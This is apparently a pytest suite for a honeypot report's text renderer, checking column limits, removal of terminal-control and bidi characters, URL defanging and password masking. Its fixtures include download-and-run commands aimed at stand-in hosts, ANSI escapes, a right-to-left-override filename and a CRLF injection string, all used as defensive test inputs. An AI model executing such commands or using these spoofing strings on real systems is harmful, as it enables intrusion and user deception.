"""The text report: 100 columns, nothing in it that steers a screen or can be clicked, every number of the document."""

import re
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cowrie_assets.reports.document import ReportDocument
from cowrie_assets.reports.render.defang import defang
from cowrie_assets.reports.render.html import render_html
from cowrie_assets.reports.render.plain_text import fit, wrap
from cowrie_assets.reports.render.text import render_text
from cowrie_assets.reports.render.wording import lasting
from cowrie_assets_tests.examples import examples
from cowrie_assets_tests.reports.render.hostile import HOSTILE, all_hostile
from cowrie_assets_tests.reports.render.page import Page
from cowrie_assets_tests.reports.render.sample_document import PERIODS, sample_document, top
from cowrie_assets_tests.reports.render.test_html import numbers
from cowrie_assets_tests.work import calls

BOUNDS = {"from", "to", "from_seconds", "to_seconds", "previous_rank", "days"}
EVIL = st.text(st.characters(codec=None), max_size=200) | st.sampled_from(
    [
        "http://192.0.2.1/x" * 9,
        "\x1b[2J\x07",
        "A\u202etxt.exe",
        "漢" * 300,
        "שלום 1",
        "e\u0301" * 90,
        "\r\nFrom: x",
        "a" * 60_000,
    ]
)


def columns(line: str) -> int:
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in line)


def document(value: str = "root", count: int = 12_345, items: int = 2) -> ReportDocument:
    """A weekly document whose every number is `count`, whose every text is `value`, whose top lists have `items`."""

    def filled(old: Any, key: str = "") -> Any:
        if isinstance(old, dict):
            return {name: filled(each, name) for name, each in old.items()}
        if isinstance(old, list):
            if old and isinstance(old[0], dict) and "value" in old[0]:
                return [{**old[0], "count": count} for _ in range(items)]
            return [filled(each, key) for each in old]
        if type(old) in (int, float) and key not in BOUNDS:
            return 100 if "percent" in key or "score" in key else count
        return old

    return filled(all_hostile(sample_document("weekly", sensor=value), value))  # type: ignore[no-any-return]


@examples(25)
@given(EVIL, st.integers(0, 10**12 - 1), st.sampled_from([0, 1, 11, 101]))
def test_no_line_is_longer_than_100_columns_whatever_is_in_it(value, count, items):
    text = render_text(document(value, count, items))
    lines = text.split("\n")
    assert max(map(columns, lines)) <= 100
    assert all(line == line.rstrip() for line in lines)
    assert lines[-1] == ""


@examples(25)
@given(EVIL)
def test_nothing_steers_the_screen(value):
    text = render_text(document(value))
    assert {unicodedata.category(char)[0] for char in set(text) - {"\n"}} <= set("LNPSZ")
    assert not {unicodedata.bidirectional(char) for char in text} & {
        "R",
        "AL",
        "AN",
        "RLE",
        "RLO",
        "LRE",
        "LRO",
        "RLI",
        "LRI",
        "FSI",
    }
    assert not re.search(r"(?i)\b(https?|ftp)://", text)
    text.encode("utf-8")


def test_the_frame_is_ascii():
    assert render_text(document()).isascii()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("wget http://192.0.2.1/a.sh; sh a.sh", "wget hxxp://192[.]0[.]2[.]1/a.sh; sh a.sh"),
        ("HTTPS://Evil.example:80/?u=http://b.example", "hxxps://Evil[.]example:80/?u=hxxp://b[.]example"),
        ("ftp://h.example/x", "fxp://h[.]example/x"),
        ("ldap://h.example/x", "ldap[:]//h[.]example/x"),
        ("curl evil.example/x | sh", "curl evil[.]example/x | sh"),
        ("cat /tmp/a.b/c; ./x.sh", "cat /tmp/a.b/c; ./x.sh"),
        ("john.doe:secret", "john.doe:secret"),
        ("192.0.2.1", "192.0.2.1"),
    ],
)
def test_urls_are_defanged(written, shown):
    assert defang(written) == shown


def test_a_name_holds_no_host_but_behind_a_scheme():
    assert defang("trojan.mirai/gafgyt", is_name=True) == "trojan.mirai/gafgyt"
    assert defang("http://a.b/c www.d.e/f", is_name=True) == "hxxp://a[.]b/c www[.]d.e/f"


def test_labels_are_shown_as_they_are_wherever_they_stand():
    shown = sample_document()
    label = shown["enrichments"]["files"]["classifications"][0]["value"]
    assert label == "trojan.mirai/gafgyt"
    shown["alerts"][0] |= {"message": f'VirusTotal calls files "{label}".', "figures": {"first": [label]}}
    for content in (render_text(shown), Page(render_html(shown)).words):
        assert content.count(label) >= 4
        assert "trojan[.]" not in content


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("", '""'),
        (" root", '" root"'),
        ("a\n\x00\x1b[1m", "a\\n\\x00\\x1b[1m"),
        ("\u202e\ud800\U000e0001", "\\u202e\\ud800\\U000e0001"),
        ("пароль 密码", "пароль 密码"),
        ("x" * 31, "x" * 27 + "..."),
        ("x" * 30, "x" * 30),
        ("密" * 16, "密" * 13 + "..."),
    ],
)
def test_values_in_30_columns(written, shown):
    assert fit(written, 30) == shown


def test_long_commands_go_on_below_and_are_cut_at_last():
    assert wrap("ab" * 20, 20, lines=3) == ["ab" * 10, "ab" * 10]
    assert wrap("ab" * 40, 20, lines=3) == ["ab" * 10, "ab" * 10, "ab" * 8 + "a..."]


def test_numbers_have_thousands_separators_and_shares():
    text = render_text(document(count=1_234_567))
    assert "1,234,567 (100.0 %)" in text
    assert re.search(r"^   1  root +\+2 +1,234,567 #{13}$", text, re.MULTILINE)


def test_bars_show_the_count_against_the_first():
    shown = sample_document()
    shown["clients"]["top_hassh"] = top(("aa", 900), ("bb", 450), ("cc", 1))  # type: ignore[typeddict-item]
    bars = re.findall(r"^   [123]  (?:aa|bb|cc) .* (#+)$", render_text(shown), re.MULTILINE)
    assert [len(bar) for bar in bars] == [18, 9, 1]


def test_each_campaign_says_what_became_of_it():
    states = re.findall(r"^  (new|growing|other|gone) +[0-9a-f]{12}  ", render_text(sample_document()), re.MULTILINE)
    assert states == ["new", "growing", "other", "gone"]


def test_moves_are_told_in_weeks_and_not_in_days():
    assert re.search(r"^   1  SSH-2.0-Go +640 #{18}$", render_text(sample_document()), re.MULTILINE)
    week = render_text(sample_document("weekly"))
    assert re.search(r"^   1  SSH-2.0-Go +\+2 +640 #{13}$", week, re.MULTILINE)
    assert re.search(r"^   2  SSH-2.0-libssh_0.9.6 +new +107 ##$", week, re.MULTILINE)


def test_empty_lists_say_none_and_a_running_period_says_so():
    text = render_text(sample_document(complete=False, alerts=[], interesting=[]))
    assert "\n  none\n" in text
    assert render_text(document(items=0)).count("      none") == 20
    assert "Not complete: the period still runs" in text
    assert "Not complete" not in render_text(sample_document())


def test_the_head_names_period_and_sensor():
    assert "Monday 2026-08-31, UTC" in render_text(sample_document())
    week = render_text(sample_document("weekly", sensor="hp-1"))
    assert "Monday 2026-08-31 to Sunday 2026-09-06, UTC" in week
    assert re.search(r"Weekly report 2026-W36 +sensor hp-1$", week, re.MULTILINE)


@pytest.mark.parametrize("report_type", PERIODS)
def test_every_number_of_the_document_is_in_the_text(report_type):
    report = sample_document(report_type)
    text = render_text(report)
    shown = set(re.findall(r"[0-9][0-9,]*(?:\.[0-9]+)?", text))
    for path, number in numbers(report):
        if path not in ("schema_version", "heat_map.weekdays.hours"):
            told = path.endswith("_seconds") and number >= 60 and lasting(number) in text
            told = told or (path.endswith(".asn") and f"AS{number}" in text)
            assert told or f"{abs(number):,}" in shown, path


def test_what_is_to_be_done_stands_before_the_lists():
    titles = re.findall(r"^([A-Z][A-Z ]+[A-Z])(?:  .*)?\n-{100}$", render_text(sample_document()), re.MULTILINE)
    assert titles[:6] == ["ALERTS", "AT A GLANCE", "VOLUME", "WHAT IS NEW", "CAMPAIGNS", "SESSIONS TO LOOK AT"]
    assert titles[-1] == "OPERATIONS"


def test_the_volume_is_drawn_by_protocol():
    shown = sample_document()
    for number, item in enumerate(shown["volume"]["items"]):
        item.update(sessions=10 * number, ssh=5 * number, telnet=4 * number)
    bars = re.findall(r"^  \d\d .* {2}([#=.]+)$", render_text(shown), re.MULTILINE)
    assert len(bars) == 23
    assert len(bars[-1]) > 35
    assert abs(bars[-1].count("#") / len(bars[-1]) - 0.5) < 0.03
    assert abs(bars[-1].count("=") / len(bars[-1]) - 0.4) < 0.03


@pytest.mark.parametrize("report_type", PERIODS)
def test_no_password_is_in_a_masked_text(report_type):
    text = render_text(sample_document(report_type), masked=True)
    assert "passwords masked" in text
    for password in ("hunter2", "hunter3", "123456", "t0psecret!", "パスワード"):
        assert password not in text
    assert "hunter2" in render_text(sample_document(report_type))


def test_it_takes_little_work():
    """Some 2 milliseconds."""
    report = sample_document()
    render_text(report)
    assert calls(lambda: render_text(report)) < 14_000


def test_a_long_name_hides_nothing_that_stands_behind_it():
    shown = sample_document()
    for each in (*shown["interesting"], *shown["abnormal"]["sessions"]):
        each["sensor"] = "s" * 60_000
    told = " ".join(render_text(shown).split())
    assert "s" * 41 not in told and "s" * 37 + "..., session" in told
    assert f"session {shown['interesting'][0]['session_id']}, client" in told


@pytest.mark.parametrize("attack", HOSTILE)
def test_whatever_an_attacker_writes_fits(attack):
    lines = render_text(document(HOSTILE[attack])).split("\n")
    assert max(map(columns, lines)) <= 100
    assert len(lines) < 475


def test_lists_whose_items_are_all_counted_1_have_no_bars():
    shown = sample_document()
    shown["clients"]["top_hassh"] = top(("aa", 1), ("bb", 1))  # type: ignore[typeddict-item]
    assert re.findall(r"^   [12]  (?:aa|bb) +1(.*)$", render_text(shown), re.MULTILINE) == ["", ""]


def test_a_large_change_is_told_as_a_factor():
    shown = sample_document()
    change = shown["changes"]["figures"]["sessions"]
    change.update(value=2200, previous=100, change=2100, change_percent=2100.0)
    text = render_text(shown)
    assert "22 times as many as the day before" in text
    assert re.search(r"^  Sessions +2,200 +100 +\+2,100 +x 22 ", text, re.MULTILINE)
    change.update(change_percent=1000.0)
    assert "+1,000.0 %" in render_text(shown)


@pytest.mark.parametrize(("judged", "told"), [(0, "not judged"), (11, "5 of 11 judged"), (14, "5")])
def test_not_judged_is_told_apart_from_none_malicious(judged, told):
    shown = sample_document()
    shown["enrichments"]["files"]["judged"] = judged
    text = render_text(shown)
    assert re.search(rf"Malicious \(VirusTotal\) +{told}$", text, re.MULTILINE)
    assert bool(re.search(r"Malware \(VirusTotal\) +not judged$", text, re.MULTILINE)) is (judged == 0)
    page = render_html(shown).decode()
    assert f"<dt>Malicious (VirusTotal)</dt><dd>{told}</dd>" in page


def test_the_hours_of_the_week_are_shaded_by_sessions_a_day():
    shown = sample_document("monthly")
    heat_map = shown["heat_map"]
    assert heat_map is not None
    for each in heat_map["weekdays"]:
        each["hours"] = [0] * 24
    heat_map["weekdays"][0].update(days=5, hours=[50, *[0] * 22, 1])
    heat_map["weekdays"][1].update(days=4, hours=[20, *[0] * 23])
    lines = [line for line in render_text(shown).split("\n") if re.match(r"  (Mon|Tue|Wed) x[45]", line)]
    assert lines[0] == f"  Mon x5 @@{' ' * 66} .." + f"{51:>13}"
    assert lines[1].startswith("  Tue x4 ++ ")
    assert lines[2].split() == ["Wed", "x4", "0"]
    assert "HOURS OF THE WEEK" not in render_text(sample_document("daily"))


def test_beside_a_trivial_file_stands_what_it_holds():
    shown = sample_document()
    empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    newline = "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b"
    shown["files"]["top_hashes"] = top((empty, 9), (newline, 3), ("aa" * 32, 2))  # type: ignore[typeddict-item]
    lines = render_text(shown).split("\n")
    notes = [lines[place + 1].strip() for place, line in enumerate(lines) if empty in line or newline in line]
    assert notes == ["the empty file", r"holds '\n'"]
    page = render_html(shown).decode()
    assert "<small>the empty file</small>" in page
    assert page.count("<small>holds ") == 1


def test_new_files_that_nobody_judged_are_not_said_to_be_harmless():
    figures = {"hashes": 5, "judged": 0, "malicious": 0, "first": ["a" * 64]}
    alert = {"kind": "new_malware", "severity": "medium", "message": "5 files never seen before.", "figures": figures}
    text = render_text(sample_document(alerts=[alert]))
    assert "judged: none yet" in text
    assert "malicious: " not in text
    figures |= {"judged": 4, "malicious": 0}
    text = render_text(sample_document(alerts=[alert]))
    assert "judged: 4" in text
    assert "malicious: 0" in text


def test_a_long_duration_is_told_as_on_the_page_of_its_session():
    document = sample_document()
    document["sessions"]["durations"]["max_seconds"] = 7953.76
    document["sessions"]["durations"]["min_seconds"] = 0.25
    text = render_text(document)
    assert re.search(r"most +2 h 12 min$", text, re.MULTILINE)
    assert "0.25 s" in text
    assert "7,953.76" not in text
